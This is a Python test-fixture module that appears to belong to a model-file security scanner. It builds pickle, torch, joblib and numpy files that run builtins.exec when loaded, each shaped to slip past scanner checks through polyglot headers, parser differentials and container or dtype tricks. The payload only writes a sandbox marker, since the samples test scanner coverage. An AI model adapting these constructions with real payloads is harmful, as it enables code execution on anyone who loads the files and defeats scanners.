"""Bypasses of how loaders read files (issue #13, classes 1-4), each proven live.

Every sample here carries the loader that runs its payload (``Sample.loader``): test_bypasses.py
opens all of them with the real ``pickle.load`` / ``torch.load`` / ``numpy.load`` /
``joblib.load`` in the sandbox of live.py and checks the marker file appears, and scans them.
Bytes are assembled at test time; the payload only writes the sandbox's marker file.
"""

from __future__ import annotations

import io
import re
import struct
import tarfile
import zlib

from . import payloads as p
from .live import marker_command
from .sample import Sample

JOBLIB_DIR = "import joblib,os,sys; joblib.load(os.path.join(sys.argv[1], 'model.pkl'))"


def exec_p0() -> bytes:
    """Protocol 0, no header: ``builtins.exec(marker_command())``."""
    return b"cbuiltins\nexec\n(V" + marker_command().encode() + b"\ntR."


def exec_p2() -> bytes:
    return b"\x80\x02" + exec_p0()


# -- 1. sniffing that gives up ---------------------------------------------------------------------
def _tar_named_pickle() -> bytes:
    # A valid tar whose first member name is a pickle: pickle.load reads the name and stops at
    # its STOP; tar readers see an ordinary archive.
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo(exec_p0().decode())
        info.size = 4
        tf.addfile(info, io.BytesIO(b"data"))
    return buf.getvalue()


def _gif_header_pickle() -> bytes:
    # "GIF89a" sniffs as an image; to pickle.load, 'G' is BINFLOAT eating 8 bytes.
    return b"GIF89a\x01\x00\x010" + exec_p0()


def _big_first_payload() -> bytes:
    # Headerless, first opcode a 1.5 MiB BINBYTES: longer than the old 1 MiB probe window.
    n = 3 << 19
    return b"B" + struct.pack("<I", n) + b"a" * n + b"0" + exec_p0()


# -- 2. parser differentials with CPython ----------------------------------------------------------
def _int_hex() -> bytes:
    return b"I0x1f\n0" + exec_p0()


def _int_nul() -> bytes:
    return b"I7\x00 anything\n0" + exec_p0()


def _long_base_prefix() -> bytes:
    return b"L0o17L\n0" + exec_p0()


def _long4_huge() -> bytes:
    # LONG4 with a 1.5 MiB operand: over the old 1 MiB cap, unlimited in CPython
    n = 3 << 19
    return b"\x8b" + struct.pack("<i", n) + b"\x01" * n + b"0" + exec_p0()


# -- 3. containers read differently from their loader ----------------------------------------------
def _torch_zip_upper_case() -> bytes:
    # torch's zip reader looks records up case-insensitively: DATA.PKL is its data.pkl
    return p.torch_zip(_int_hex(), "archive/DATA.PKL")


def _torch_legacy_hex_version() -> bytes:
    # torch.load unpickles the protocol-version pickle (1001 written in hex) then the object
    # pickle; a walker that fails on the second pickle used to end the scan there.
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"I0x3e9\n." + b"\x80\x02}q\x00." + exec_p2() + b"\x80\x02]q\x00."


def _joblib_padding_desync() -> bytes:
    # joblib pads array data whenever numpy_array_alignment_bytes is not None (here True); a
    # scanner that only pads for an int skips to the wrong place and reads a BINBYTES that hides
    # the payload joblib runs after the array.
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.zeros(1), buf, protocol=2)
    dumped = buf.getvalue()
    head = re.sub(
        rb"(numpy_array_alignment_bytes(?:q.)?)K\x10",
        lambda m: m.group(1) + b"\x88",
        dumped,
        flags=re.S,
    )
    build = head.rindex(b"b")  # the BUILD after the wrapper state; array bytes follow
    evil = b"0" + exec_p0()
    swallow = len(np.zeros(1).tobytes()) + len(evil)
    padding = b"\xff" * 7 + b"B" + struct.pack("<I", swallow)
    return (
        head[: build + 1] + bytes([len(padding)]) + padding + np.zeros(1).tobytes() + evil + b"0."
    )


def _joblib_object_subarray() -> bytes:
    # The wrapper's dtype is 'V16' whose pickled state nests a sub-array of objects: joblib sees
    # hasobject and unpickles what follows; reading only the type code skips 16 raw bytes.
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.zeros(1, dtype=[("s", "O", (2,))]), buf, protocol=2)
    dumped = buf.getvalue()
    inner = dumped.index(b"ub\x80") + 2
    return dumped[:inner] + exec_p2() + b"."


def _joblib_dtype_elsize() -> bytes:
    # An 'f8' dtype whose pickled state claims 16-byte items: numpy keeps 8 (only flexible
    # types take the size from the state), so joblib reads 24 bytes and runs what follows;
    # trusting the state skips 48 and lands inside the payload.
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.arange(3.0), buf, protocol=2)
    dumped = buf.getvalue().replace(b"NNNJ\xff\xff\xff\xffJ", b"NNNK\x10J", 1)
    return dumped[:-1] + b"0" + exec_p0()


def _joblib_zfile() -> bytes:
    data = exec_p2()
    return b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data)


def _ndarray_wrapper() -> bytes:
    # joblib's NumpyUnpickler: BUILD on an NDArrayWrapper numpy.load()s the named file with
    # allow_pickle=True (any path; here a companion .npy carrying an object-array pickle)
    state = (
        b"}("
        + p.su("filename")
        + p.su("payload.npy")
        + p.su("subclass")
        + p.global_("numpy", "ndarray")
        + p.su("allow_mmap")
        + b"\x89u"
    )
    return (
        b"\x80\x02"
        + p.global_("joblib.numpy_pickle_compat", "NDArrayWrapper")
        + b")\x81"
        + state
        + b"b."
    )


# -- 4. numpy descriptors spelled as words ---------------------------------------------------------
def npy(descr: str, payload: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _npy_object_word() -> bytes:
    return npy("'object'", exec_p2())


def _npy_comma_string() -> bytes:
    return npy("'i4,O'", exec_p2())


def _npy_structured_word() -> bytes:
    return npy("[('a', 'object')]", exec_p2())


def _npy_subarray_word() -> bytes:
    return npy("('object_', (2,))", exec_p2())


def _npz_object_word() -> bytes:
    return p.zip_bytes({"arr_0.npy": npy("'object_'", exec_p2())})


LOADER_SAMPLES: list[Sample] = [
    Sample(
        "tar-name-is-pickle",
        "issue #13 class 1 (tar header)",
        _tar_named_pickle,
        "model.tar",
        loader="pickle",
    ),
    Sample(
        "gif-header-pickle",
        "issue #13 class 1 (image header)",
        _gif_header_pickle,
        "model.pkl",
        loader="pickle",
    ),
    Sample(
        "probe-window-payload",
        "issue #13 class 1/2 (first payload > probe window)",
        _big_first_payload,
        "model.pkl",
        loader="pickle",
    ),
    Sample("int-hex-literal", "issue #13 class 2 (INT in base 16)", _int_hex, loader="pickle"),
    Sample("int-nul-literal", "issue #13 class 2 (INT followed by NUL)", _int_nul, loader="pickle"),
    Sample(
        "long-octal-literal",
        "issue #13 class 2 (LONG with 0o prefix)",
        _long_base_prefix,
        loader="pickle",
    ),
    Sample("long4-huge", "issue #13 class 2 (over-long LONG4)", _long4_huge, loader="pickle"),
    Sample(
        "torch-zip-upper-case",
        "issue #13 class 3 (DATA.PKL)",
        _torch_zip_upper_case,
        "model.pt",
        "archive",
        loader="torch",
    ),
    Sample(
        "torch-legacy-hex-version",
        "issue #13 class 3 (later legacy pickle)",
        _torch_legacy_hex_version,
        "model.pth",
        loader="torch",
    ),
    Sample(
        "joblib-padding-desync",
        "issue #13 class 3 (joblib padding)",
        _joblib_padding_desync,
        "model.joblib",
        loader="joblib",
    ),
    Sample(
        "joblib-object-subarray",
        "issue #13 class 3 (joblib dtype holding objects in a sub-array)",
        _joblib_object_subarray,
        "model.joblib",
        loader="joblib",
    ),
    Sample(
        "joblib-dtype-elsize",
        "issue #13 class 3 (joblib dtype state item size)",
        _joblib_dtype_elsize,
        "model.joblib",
        loader="joblib",
    ),
    Sample(
        "joblib-zfile",
        "issue #13 class 3 (joblib < 0.10 ZF format)",
        _joblib_zfile,
        "model.joblib",
        "archive",
        loader="joblib",
    ),
    Sample(
        "joblib-ndarray-wrapper",
        "issue #13 class 3 (allow-listed class loads a pickle)",
        _ndarray_wrapper,
        "model.pkl",
        loader=JOBLIB_DIR,
        companions=lambda: {"payload.npy": npy("'|O'", exec_p2())},
    ),
    Sample(
        "npy-object-word",
        "issue #13 class 4 ('object')",
        _npy_object_word,
        "arr.npy",
        "other",
        loader="numpy",
    ),
    Sample(
        "npy-comma-string",
        "issue #13 class 4 ('i4,O')",
        _npy_comma_string,
        "arr.npy",
        "other",
        loader="numpy",
    ),
    Sample(
        "npy-structured-word",
        "issue #13 class 4 (structured field)",
        _npy_structured_word,
        "arr.npy",
        "other",
        loader="numpy",
    ),
    Sample(
        "npy-subarray-word",
        "issue #13 class 4 (sub-array)",
        _npy_subarray_word,
        "arr.npy",
        "other",
        loader="numpy",
    ),
    Sample(
        "npz-object-word",
        "issue #13 class 4 (npz member 'object_')",
        _npz_object_word,
        "arrs.npz",
        "archive",
        loader="numpy-npz",
    ),
]
